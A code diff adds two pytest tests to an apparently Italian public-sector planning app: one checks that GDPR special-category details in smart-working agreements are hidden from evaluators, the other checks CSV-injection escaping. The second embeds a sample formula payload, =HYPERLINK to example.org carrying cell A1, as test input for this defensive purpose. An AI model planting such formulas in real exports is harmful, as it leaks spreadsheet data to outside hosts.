@@ -172,3 +172,49 @@ def test_the_page_reads_a_fixed_number_of_queries(client, casorate, make_member,
     many = _queries(client, _url(casorate, name), person=secretary.pk)
     assert few == many
     assert len(client.get(_url(casorate), {"person": secretary.pk}).context["entries"]) == 7
+
+
+@pytest.mark.parametrize("name", ["changelog:register", "changelog:csv"])
+def test_special_categories_reach_only_the_roles_that_see_them(client, casorate, make_member, name):
+    """The priority of an agreement of lavoro agile and the reason of a derogation (art. 9 GDPR)
+    are hidden from the nucleo di valutazione in the register as on the agreements' page."""
+    from openpiao.human_capital.models import SmartWorkingAgreement
+    from openpiao.human_capital.services import save_row
+
+    secretary = make_member(casorate.organization, "secretary")
+    reason = "Terapia salvavita tre giorni a settimana"
+    save_row(
+        plan=casorate,
+        model=SmartWorkingAgreement,
+        row=None,
+        values={
+            "employee": casorate.employees.order_by("pk").first(),
+            "requested_on": date(casorate.first_year, 1, 15),
+            "remote_days": 2,
+            "priority": "disability",
+            "presence_derogation": True,
+            "derogation_reason": reason,
+        },
+        user=secretary,
+    )
+    priority = SmartWorkingAgreement(priority="disability").get_priority_display()
+    client.force_login(make_member(casorate.organization, "evaluator"))
+    seen = client.get(_url(casorate, name)).content.decode("utf-8")
+    assert "accordo di lavoro agile" in seen  # the agreement is listed ...
+    assert reason not in seen and priority not in seen  # ... without its special categories
+    client.force_login(secretary)
+    seen = client.get(_url(casorate, name)).content.decode("utf-8")
+    assert reason in seen and priority in seen
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(client, casorate, make_member):
+    """A title typed as «=HYPERLINK(…)» must open as that text, not as a formula (CSV injection):
+    the cell starts with an apostrophe, as spreadsheets read a text."""
+    secretary = make_member(casorate.organization, "secretary")
+    client.force_login(secretary)
+    formula = '=HYPERLINK("https://example.org/?d="&A1;"Apri")'
+    _rename_objective(client, casorate, _first_objective(casorate), formula)
+    response = client.get(_url(casorate, "changelog:csv"), {"person": secretary.pk})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][5] == rows[1][8] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
